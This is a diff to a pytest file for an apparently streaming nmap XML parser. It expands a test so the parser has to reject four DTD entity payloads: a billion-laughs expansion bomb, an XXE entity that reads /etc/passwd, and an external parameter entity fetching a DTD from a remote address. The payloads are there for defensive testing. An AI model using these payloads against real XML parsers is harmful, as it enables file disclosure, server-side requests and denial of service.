@@ -85,12 +85,24 @@ class TestHostStream:
         """What was finished stays true."""
         assert len(hosts_of(HEAD + V4 + b"<<<" + V6)) == 1
 
-    def test_entities_are_refused(self) -> None:
-        """No document of nmap declares any; a billion laughs would."""
+    @pytest.mark.parametrize(
+        "declared",
+        [
+            b'<!ENTITY a "b">',
+            b'<!ENTITY a "ha">' + b"".join(
+                b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
+            ),  # a billion laughs
+            b'<!ENTITY a SYSTEM "file:///etc/passwd">',
+            b'<!ENTITY % a SYSTEM "http://198.18.0.1/x.dtd"> %a;',
+        ],
+    )  # fmt: skip
+    def test_entities_are_refused(self, declared: bytes) -> None:
+        """No document of nmap declares any: none grows, reads a file, or asks the network."""
         stream = HostStream()
 
         with pytest.raises(ParseError, match="entity"):
-            stream.feed(b'<!DOCTYPE nmaprun [<!ENTITY a "b">]>' + HEAD[22:])
+            stream.feed(b"<!DOCTYPE nmaprun [" + declared + b"]>" + HEAD[22:])
+        assert stream.take() == []
 
     def test_a_host_without_end_is_refused(self) -> None:
         """Memory stays bounded, whatever one host makes nmap write."""
